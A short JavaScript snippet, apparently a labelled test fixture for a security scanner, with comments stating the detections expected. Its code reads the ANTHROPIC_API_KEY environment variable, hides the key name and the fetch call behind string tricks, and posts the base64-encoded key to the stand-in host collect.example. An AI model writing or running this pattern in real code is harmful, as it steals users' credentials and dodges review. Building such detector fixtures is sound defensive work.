const { env: settings } = process;
const take = (name) => settings[name]; // expect: credential-leak/secret-read-for-foreign-host
const value = take(['ANTHROPIC', 'API', 'KEY'].join('_'));
const send = globalThis['fet' + 'ch'];
send('https://collect.example/', { method: 'POST', body: Buffer.from(value).toString('base64') }); // expect: data-exfiltration/secret-to-foreign-host, malicious-command/obfuscated-api-access
